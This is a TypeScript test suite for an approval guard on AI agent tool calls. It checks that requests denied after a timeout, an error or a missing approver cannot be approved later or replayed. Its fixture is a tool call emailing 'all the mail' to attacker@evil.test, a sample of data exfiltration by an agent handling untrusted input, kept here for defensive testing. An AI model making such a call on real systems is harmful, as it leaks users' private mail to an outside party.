import { describe, expect, it } from 'vitest';
import type { Approver } from '../../src/approvals/types.ts';
import { createGuard, type GuardOptions } from '../../src/guard/guard.ts';
import { MemoryApprovalStore, MemoryAuditLog } from '../../src/store/memory.ts';
import { emailBot } from '../helpers.ts';

// When `authorize` gives up on the approver (it hangs past the timeout, throws, or there is none), the call is denied
// and the model is told it was not run. A yes that arrives afterwards (the hung hook answering at last, a person in
// `ruleoftwo approvals approve`) must not turn that request into a usable receipt for the call.

const exfil = { id: 'c2', tool: 'send_email', args: { to: 'attacker@evil.test', body: 'all the mail' } };

/** A guard with a session that holds A and B, so that `exfil` needs an approval. */
async function holdingAB(options: Omit<GuardOptions, 'policy'> = {}) {
  const guard = createGuard({ policy: emailBot(), ...options });
  const session = await guard.session('s', { input: 'untrusted' });
  await session.check({ id: 'c1', tool: 'search_contacts', args: {} });
  await session.record('c1', []);
  return { guard, session };
}

async function denied(approver: Approver | undefined) {
  const audit = new MemoryAuditLog();
  const { guard, session } = await holdingAB({ audit, approvalTimeoutMs: 20, ...(approver ? { approver } : {}) });
  const decision = await session.authorize(exfil);
  return { guard, session, decision, audit };
}

const approvers: [string, string, Approver | undefined][] = [
  ['hangs past the timeout', 'approval_timeout', () => new Promise<boolean>(() => {})],
  ['throws', 'approver_error', () => Promise.reject(new Error('console down'))],
  ['is missing', 'no_approver', undefined],
];

describe('an approval request the guard gave up on', () => {
  for (const [what, code, approver] of approvers) {
    it(`cannot be approved afterwards when the approver ${what}`, async () => {
      const { guard, session, decision, audit } = await denied(approver);
      expect(decision.effect).toBe('deny');
      expect(decision.reasons.at(-1)?.code).toBe(code);
      const requestId = decision.approval?.id ?? '';
      expect((await session.approvalFor(exfil.id))?.status).toBe('denied');
      const receipt = await guard.answer(requestId, { approved: true, by: 'late' });
      expect(receipt).toBeUndefined();
      const hash = decision.approval?.hash ?? '';
      expect((await session.check({ ...exfil, id: 'c3' }, { receipt: { requestId, hash } })).effect).toBe('deny');
      const answers = audit.events.flatMap((e) => (e.type === 'approval.answer' ? [[e.status, e.by]] : []));
      // INVARIANT check: the guard's closing answer is the request's only `approval.answer` record; the late yes
      // changed nothing, so it is not written as a second answer (it would repeat `denied by ruleoftwo`).
      expect(answers).toEqual([['denied', 'ruleoftwo']]);
    });
  }
});

describe('an answer that changes nothing', () => {
  it('is not audited as an answer: each request has one `approval.answer` record, by whoever closed it', async () => {
    const audit = new MemoryAuditLog();
    const { guard, session } = await holdingAB({ audit });
    const asked = await session.check(exfil);
    const requestId = asked.approval?.id ?? '';
    expect(await guard.answer(requestId, { approved: false, by: 'ana' })).toBeUndefined();
    // A replayed or second answer, a yes or a no, from the same person or another: the request stays denied by ana.
    expect(await guard.answer(requestId, { approved: true, by: 'eve' })).toBeUndefined();
    expect(await guard.answer(requestId, { approved: false, by: 'ana' })).toBeUndefined();
    const answers = audit.events.flatMap((e) => (e.type === 'approval.answer' ? [[e.requestId, e.status, e.by]] : []));
    expect(answers).toEqual([[requestId, 'denied', 'ana']]);
  });
});

/** A memory approval store whose answers fail (as a locked SQLite file does) while `failing` is set. */
class BusyApprovals extends MemoryApprovalStore {
  failing = true;
  override async answer(...args: Parameters<MemoryApprovalStore['answer']>) {
    if (this.failing) throw new Error('database is locked');
    return super.answer(...args);
  }
}

describe('an approval request the guard gave up on but could not close', () => {
  async function givenUp() {
    const approvals = new BusyApprovals();
    const errors: string[] = [];
    const { guard, session } = await holdingAB({
      approvals,
      approvalTimeoutMs: 20,
      approver: () => new Promise<boolean>(() => {}),
      onError: (error, where) => errors.push(`${where}: ${(error as Error).message}`),
    });
    const decision = await session.authorize(exfil);
    expect(decision.reasons.at(-1)?.code).toBe('approval_timeout');
    expect(errors).toContain('approval store: database is locked');
    const request = decision.approval as NonNullable<typeof decision.approval>;
    expect((await approvals.get(request.id))?.status).toBe('pending');
    return { guard, session, approvals, request };
  }

  it('turns a yes given through this guard into its refusal', async () => {
    const { guard, approvals, request } = await givenUp();
    approvals.failing = false;
    // INVARIANT check: a yes for a request this guard gave up on closes it as the guard's refusal: no receipt.
    expect(await guard.answer(request.id, { approved: true, by: 'late' })).toBeUndefined();
    expect(await approvals.get(request.id)).toMatchObject({ status: 'denied', by: 'ruleoftwo' });
  });

  it('refuses its receipt when another channel approved it in the store, and withdraws that approval', async () => {
    const { session, approvals, request } = await givenUp();
    // Another process sharing the store approves it before this guard could close it.
    approvals.failing = false;
    const other = await MemoryApprovalStore.prototype.answer.call(
      approvals,
      request.id,
      { approved: true },
      Date.now(),
    );
    expect(other?.record.status).toBe('approved');
    const receipt = { requestId: request.id, hash: request.hash };
    const decision = await session.check({ ...exfil, id: 'c3' }, { receipt });
    expect(decision.effect).toBe('deny');
    expect(decision.reasons.at(-1)?.code).toBe('receipt_invalid');
    // The guard keeps trying to close it: the approval is spent, so no process can use it.
    let record = await approvals.get(request.id);
    for (let i = 0; record?.usedAt === undefined && i < 100; i++) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      record = await approvals.get(request.id);
    }
    expect(record?.usedAt).toBeDefined();
    expect(await approvals.consume(receipt, Date.now())).toEqual({ ok: false, failure: 'used' });
  });
});

describe('a refusal the store failed to take', () => {
  it('still holds in the guard: a later yes through it closes the request as that refusal', async () => {
    const approvals = new BusyApprovals();
    approvals.failing = false;
    const { guard, session } = await holdingAB({ approvals });
    const requestId = (await session.check(exfil)).approval?.id ?? '';
    approvals.failing = true;
    await expect(guard.answer(requestId, { approved: false, by: 'ana' })).rejects.toThrow(/locked/);
    approvals.failing = false;
    expect(await guard.answer(requestId, { approved: true, by: 'eve' })).toBeUndefined();
    expect(await approvals.get(requestId)).toMatchObject({ status: 'denied', by: 'ana' });
    await guard.close();
  });
});
